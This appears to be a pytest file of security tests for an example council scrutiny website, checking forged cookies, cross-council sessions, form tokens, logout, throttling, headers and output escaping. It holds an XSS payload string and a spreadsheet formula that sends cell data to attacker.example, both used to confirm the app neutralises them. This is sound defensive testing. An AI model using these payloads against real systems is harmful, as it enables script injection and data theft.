"""The example host as a council's penetration tester probes it: cookies, sessions, form tokens, sign-in,
missing pages, and recorded text shown back.

Each case is one that was found open before: a cookie forged with the documented secret, a session of
one council signing in to another, a 500 for a missing ref, a form token that never changed, a logout
that only deleted the cookie, a sign-in form without a token, no limit on guessing passwords.
"""

from __future__ import annotations

import hashlib
import hmac
import http.cookiejar
import re
import sqlite3
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from examples.host_app import users
from examples.host_app.app import create_app
from examples.host_app.sessions import WINDOW, Throttle, WeakSecret
from selenium.webdriver.common.by import By
from sqlalchemy import create_engine

from scrutiny_es import Scrutiny
from tests.conftest import FixedClock, fresh_postgres_database
from tests.e2e.host_site import ref, seed, serving, sign_in, start_chromium


@dataclass
class Answer:
    status: int
    url: str
    text: str
    headers: dict[str, str]


class Client:
    """A browser without a screen: keeps its cookies, follows redirects, and reads any answer, 4xx included."""

    def __init__(self, site: str) -> None:
        self.site = site
        self.cookies = http.cookiejar.CookieJar()
        self.opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(self.cookies))

    def open(self, path: str, form: dict[str, str] | None = None, headers: dict[str, str] | None = None) -> Answer:
        data = None if form is None else urllib.parse.urlencode(form).encode()
        request = urllib.request.Request(self.site + path, data=data, headers=headers or {})  # noqa: S310 (loopback)
        try:
            with self.opener.open(request) as done:
                return Answer(done.status, done.geturl(), done.read().decode(), dict(done.headers))
        except urllib.error.HTTPError as e:
            return Answer(e.code, e.geturl(), e.read().decode(), dict(e.headers))

    def token(self, path: str) -> str:
        found = re.search(r'name="token" value="([^"]+)"', self.open(path).text)
        assert found is not None, f"no form token on {path}"
        return found[1]

    def sign_in(self, username: str = "jo", password: str = "correct horse") -> Answer:
        form = {"username": username, "password": password, "token": self.token("/login"), "next": "/"}
        return self.open("/login", form)

    def cookie(self, name_starts: str = "scrutiny-") -> tuple[str, str]:
        (found,) = [(c.name, c.value) for c in self.cookies if c.name.startswith(name_starts)
                    and not c.name.startswith("scrutiny-sign-in")]  # fmt: skip
        return found


def progress_form(token: str, n: int = 3, note: str = "Consultation under way") -> dict[str, str]:
    return {"token": token, "of_body": "BCSB", "of_ref": ref(n), "note": note, "reported_on-day": "1",
            "reported_on-month": "3", "reported_on-year": "2024", "reported_by": "Cabinet"}  # fmt: skip


def said_recorded(answer: Answer) -> bool:
    """Whether the page a post led to says "Recorded." (as its session tells it, once)."""
    return answer.status == 200 and re.search(r'id="recorded".*?Recorded\.', answer.text, re.S) is not None


def progress_page(n: int = 3) -> str:
    return f"/do/progress?body=BCSB&ref={urllib.parse.quote(ref(n))}"


def progress_notes(url: str, n: int = 3) -> list[str | None]:
    record = Scrutiny(url)
    try:
        return [fact.text for fact in record.item("BCSB", ref(n)) if fact.event == "ProgressReported"]
    finally:
        record.close()


class Clock:
    """The sessions' clock, moved on by the test."""

    def __init__(self) -> None:
        self.seconds = 1_700_000_000.0

    def __call__(self) -> float:
        return self.seconds


@pytest.fixture
def sqlite_url(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'council.db'}"
    seed(url, items=8)
    return url


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def site(sqlite_url: str, clock: Clock) -> Iterator[str]:
    with serving(sqlite_url, now=clock) as address:
        yield address


def test_a_weak_or_documented_secret_is_refused_and_without_one_the_database_keeps_one(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'council.db'}"
    for weak in ("change-me", "secret", "a" * 40, "short but random 7f3a"):
        with pytest.raises(WeakSecret, match="at least 32 random characters"):
            create_app(url, secret=weak)
    seed(url, items=1)
    with serving(url) as first:  # the tests' own strong secret
        client = Client(first)
        client.sign_in()
    create_app(url, clock=FixedClock())  # no secret: one is made, and kept
    with sqlite3.connect(tmp_path / "council.db") as db:
        (kept,) = db.execute("select secret from host_secret").fetchone()
    assert len(kept) == 64
    create_app(url, clock=FixedClock())
    with sqlite3.connect(tmp_path / "council.db") as db:
        assert db.execute("select secret from host_secret").fetchall() == [(kept,)], "the same one after a restart"


def test_a_cookie_forged_with_any_secret_signs_no_one_in(site: str, sqlite_url: str) -> None:
    client = Client(site)
    client.sign_in()
    name, _ = client.cookie()
    old_style = f"1:{hmac.new(b'change-me', b'officer:1', hashlib.sha256).hexdigest()}"
    for forged in (old_style, "1", f"made-up-session.{'0' * 64}", ""):
        answer = Client(site).open("/", headers={"Cookie": f"officer={forged}; {name}={forged}"})
        assert answer.url.startswith(f"{site}/login"), forged


def test_a_session_of_one_council_does_not_sign_anyone_in_to_another(postgres_server: str) -> None:
    with fresh_postgres_database(postgres_server) as url:
        seed(f"{url}?schema=haringey", "HASC", items=3)
        seed(f"{url}?schema=camden", "BCSB", items=3)
        with serving(f"{url}?schema=haringey") as haringey, serving(f"{url}?schema=camden") as camden:
            at_camden = Client(camden)
            at_camden.sign_in("dh", "battery staple")
            name, value = at_camden.cookie()
            assert name == "scrutiny-camden", "each council's cookie is its own"
            token = at_camden.token(progress_page())
            # the same cookie and token, taken to the other council's server (same host, another port)
            intruder = Client(haringey)
            for cookie_name in (name, "scrutiny-haringey"):
                headers = {"Cookie": f"{cookie_name}={value}"}
                assert intruder.open("/", headers=headers).url.startswith(f"{haringey}/login")
                answer = intruder.open("/do/progress", progress_form(token), headers=headers)
                assert answer.url.startswith(f"{haringey}/login")
            record = Scrutiny(f"{url}?schema=haringey")
            assert [e.event for e in record.audit() if e.event == "ProgressReported"] == []
            record.close()


def test_a_missing_item_body_or_form_is_a_page_not_found(site: str) -> None:
    client = Client(site)
    client.sign_in()
    for path in ("/bodies/BCSB/items/2099-01-01/99", "/bodies/NOPE", "/bodies/NOPE/items/R1", "/do/nothing",
                 "/do/progress?body=BCSB&ref=R404", "/do/progress?body=BCSB", "/do/progress", "/bodies/BCSB/items",
                 "/bodies/BCSB/tracker.pdf", "/bodies/BCSB/nothing"):  # fmt: skip
        answer = client.open(path)
        assert answer.status == 404, path
        assert "Page not found" in answer.text and "Traceback" not in answer.text


def test_each_form_token_is_good_for_one_post_of_its_own_session(site: str, sqlite_url: str) -> None:
    client = Client(site)
    client.sign_in()
    first, second = client.token(progress_page()), client.token(progress_page())
    assert first != second, "each page its own token"
    assert said_recorded(client.open("/do/progress", progress_form(first, note="First")))
    again = client.open("/do/progress", progress_form(first, note="Again"))
    assert again.status == 403 and "expired" in again.text
    assert client.open("/do/progress", progress_form("", note="None")).status == 403
    other = Client(site)
    other.sign_in("dh", "battery staple")
    assert other.open("/do/progress", progress_form(second, note="Theirs")).status == 403, "not another's token"
    assert progress_notes(sqlite_url) == ["First"]


def test_logout_revokes_the_session_on_the_server(site: str) -> None:
    client = Client(site)
    client.sign_in()
    name, value = client.cookie()
    assert client.open("/logout", {"token": "wrong"}).status == 403, "no logout from another site's form"
    assert client.open("/logout", {"token": client.token("/")}).url.startswith(f"{site}/login")
    replayed = Client(site).open("/", headers={"Cookie": f"{name}={value}"})
    assert replayed.url.startswith(f"{site}/login"), "the old cookie is no good after logout"


def test_a_session_ends_when_left_idle_or_after_a_working_day(site: str, clock: Clock) -> None:
    client = Client(site)
    client.sign_in()
    clock.seconds += 29 * 60
    assert client.open("/").url == f"{site}/"
    clock.seconds += 31 * 60
    assert client.open("/").url.startswith(f"{site}/login")
    client.sign_in()
    for _ in range(21):  # used every 29 minutes, past ten hours
        clock.seconds += 29 * 60
        client.open("/")
    assert client.open("/").url.startswith(f"{site}/login")


def test_sign_in_needs_its_own_token_and_cookie(site: str) -> None:
    client = Client(site)
    refused = client.open("/login", {"username": "jo", "password": "correct horse"})
    assert refused.status == 403 and "expired" in refused.text
    token = Client(site).token("/login")  # a token made for another browser's sign-in cookie
    client.open("/login")
    forced = client.open("/login", {"username": "jo", "password": "correct horse", "token": token})
    assert forced.status == 403, "no one is signed in to an account by another site's form"
    assert client.sign_in().url == f"{site}/"


def test_guessing_passwords_is_stopped_after_five_tries(site: str, clock: Clock) -> None:
    client = Client(site)
    for _ in range(5):
        assert client.sign_in(password="guess").status == 401
    stopped = client.sign_in()
    assert stopped.status == 429 and "Too many tries" in stopped.text, "not even the right password, for now"
    assert Client(site).sign_in("dh", "battery staple").url == f"{site}/", "another account is not stopped"
    clock.seconds += 16 * 60
    assert client.sign_in().url == f"{site}/"


def test_cookies_and_headers_are_as_a_tester_expects(site: str) -> None:
    client = Client(site)
    login = client.open("/login")
    assert "frame-ancestors 'none'" in login.headers["content-security-policy"]
    assert "'unsafe-inline'" not in login.headers["content-security-policy"]
    assert login.headers["x-frame-options"] == "DENY"
    assert login.headers["x-content-type-options"] == "nosniff"
    assert login.headers["cache-control"] == "no-store"
    assert "strict-transport-security" not in login.headers, "not over plain HTTP"
    form = {"username": "jo", "password": "correct horse", "token": client.token("/login")}
    behind_tls = {"X-Forwarded-Proto": "https"}
    request = urllib.request.Request(f"{site}/login", urllib.parse.urlencode(form).encode(), behind_tls)  # noqa: S310

    class Stay(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args: object, **kwargs: object) -> None:
            return None

    opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(client.cookies), Stay)
    with pytest.raises(urllib.error.HTTPError) as answered:
        opener.open(request)
    set_cookie = [v for k, v in answered.value.headers.items() if k.lower() == "set-cookie"]
    (session,) = [c for c in set_cookie if c.startswith("scrutiny-") and "sign-in" not in c.split("=")[0]]
    assert "HttpOnly" in session and "SameSite=lax" in session and "Secure" in session
    assert answered.value.headers["strict-transport-security"].startswith("max-age=")


MARKUP = '<script>window.pwned=1</script><img src=x onerror="window.pwned=2"><b>bold</b> & "quotes"'


def test_markup_recorded_in_every_text_field_is_shown_as_text_on_every_page(
    site: str, sqlite_url: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    client = Client(site)
    client.sign_in()

    def post(key: str, n: int, form: dict[str, str]) -> None:
        token = client.token(f"/do/{key}?body=BCSB&ref={urllib.parse.quote(ref(n))}")
        answer = client.open(f"/do/{key}", {"token": token, "of_body": "BCSB", "of_ref": ref(n), **form})
        assert said_recorded(answer), (key, answer.text[:3000])

    march = {"-day": "1", "-month": "3", "-year": "2024"}

    def on(field: str) -> dict[str, str]:
        return {field + part: value for part, value in march.items()}

    post("progress", 1, {"note": MARKUP, "reported_by": MARKUP, **on("reported_on")})
    post("respond", 2, {"addressee": "Cabinet", "decision": "accepted", "text": MARKUP, "responded_by": MARKUP,
                        **on("responded_on")})  # fmt: skip
    post("revise-target", 2, {"reason": MARKUP, "decided_by": MARKUP, **on("decided_on"),
                              **{f"target_date{p}": v for p, v in {"-day": "1", "-month": "6", "-year": "2024"}.items()}})  # fmt: skip
    post("defer", 3, {"reason": MARKUP, "minute": "12", **on("decided_on")})
    post("escalate", 4, {"action": MARKUP, **on("decided_on")})
    post("close", 5, {"outcome": "implemented", "note": MARKUP, **on("decided_on")})
    post("reopen", 5, {"reason": MARKUP, **on("decided_on")})
    post("correct", 6, {"field": "item", "value": MARKUP, "reason": MARKUP})
    token = client.token("/do/make-recommendation?body=BCSB")
    made = client.open("/do/make-recommendation", {
        "token": token, "of_body": "BCSB", "of_ref": "", "ref": "2024-02-15/99", "kind": "action", **on("meeting_date"),
        "item": MARKUP, "text": MARKUP, "addressee_1": "Cabinet", "addressee_1_kind": "executive"})  # fmt: skip
    assert said_recorded(made), made.text[:3000]

    pages = ["/", "/bodies/BCSB", "/overdue", *[f"/bodies/BCSB/items/{urllib.parse.quote(ref(n))}" for n in range(1, 7)],
             "/bodies/BCSB/items/2024-02-15/99"]  # fmt: skip
    for path in pages:
        text = client.open(path).text
        assert "<script>window.pwned" not in text and "<img src=x" not in text and "<b>bold" not in text, path
    assert "&lt;script&gt;window.pwned=1&lt;/script&gt;" in client.open("/bodies/BCSB/items/2024-02-15/99").text

    driver = start_chromium(tmp_path_factory.mktemp("chromium-profile"))
    try:
        sign_in(driver, site)
        for path in pages:
            driver.get(site + path)
            assert driver.execute_script("return window.pwned === undefined"), path
        driver.get(f"{site}/bodies/BCSB/items/{urllib.parse.quote(ref(1))}")
        assert MARKUP in driver.find_element(By.ID, "card").text, "shown as the words typed"
    finally:
        driver.quit()


def test_recorded_words_never_run_as_a_formula_in_the_downloaded_tracker(site: str) -> None:
    client = Client(site)
    client.sign_in()
    formula = '=HYPERLINK("http://attacker.example/"&A1,"Open")'
    client.open("/do/progress", progress_form(client.token(progress_page()), note=formula))
    csv_text = client.open("/bodies/BCSB/tracker.csv").text
    assert "'=HYPERLINK" in csv_text
    assert ",=HYPERLINK" not in csv_text and ',"=HYPERLINK' not in csv_text


def test_a_form_posted_past_the_policy_is_refused_in_words_and_records_nothing(site: str, sqlite_url: str) -> None:
    officer = Client(site)
    officer.sign_in("dh", "battery staple")
    form_page = f"/do/respond?body=BCSB&ref={urllib.parse.quote(ref(1))}"  # offered: it names them
    form = {"token": officer.token(form_page), "of_body": "BCSB", "of_ref": ref(1), "addressee": "Cabinet",
            "decision": "accepted", "text": "Agreed", "responded_on-day": "1", "responded_on-month": "3",
            "responded_on-year": "2024", "responded_by": "Director of Housing"}  # fmt: skip
    refused = officer.open("/do/respond", form)
    assert refused.status == 422
    assert ("Only a scrutiny officer, a democratic services officer, a clerk or Cabinet may record Cabinet&#39;s "
            "response.") in refused.text  # fmt: skip
    assert "record_response" not in refused.text and "actor.role" not in refused.text
    record = Scrutiny(sqlite_url)
    assert [e.event for e in record.audit(body="BCSB", ref=ref(1))] == ["Made", "Referred"]
    record.close()


def test_a_name_no_one_has_costs_one_scrypt_as_a_real_name_does_so_the_time_tells_neither(
    sqlite_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    engine = create_engine(sqlite_url)
    hashed: list[bytes] = []
    scrypt = hashlib.scrypt

    def counted(password: bytes, **cost: int) -> bytes:
        hashed.append(password)
        return scrypt(password, **cost)  # type: ignore[arg-type]

    monkeypatch.setattr(users.hashlib, "scrypt", counted)
    with engine.connect() as conn:
        for username, password in (("nobody", "guess"), ("nobody", "guess"), ("jo", "guess"), ("jo", "correct horse")):
            hashed.clear()
            users.signed_in(conn, username, password)
            assert hashed == [password.encode()], (username, password)
    engine.dispose()


def test_failed_sign_ins_keep_no_name_whole_and_nothing_past_their_window() -> None:
    clock = Clock()
    throttle = Throttle(clock)
    for n in range(20):  # a megabyte's name each try, a new one each time
        throttle.failed(f"{n}" + "x" * 1_000_000, "192.0.2.1")
    assert len(throttle.failures) == 21 and max(len(key) for key in throttle.failures) < 100
    assert throttle.wait("anyone", "192.0.2.1") > 0, "the address is stopped, as before"
    assert throttle.wait("0" + "x" * 1_000_000, "192.0.2.9") == 0, "and that name has failed once"
    clock.seconds += WINDOW + 1
    throttle.failed("jo", "192.0.2.2")
    assert len(throttle.failures) == 2, "the window passed: only the new failure is kept"
    throttle.wait("never failed", "192.0.2.3")
    assert len(throttle.failures) == 2, "asking keeps nothing"
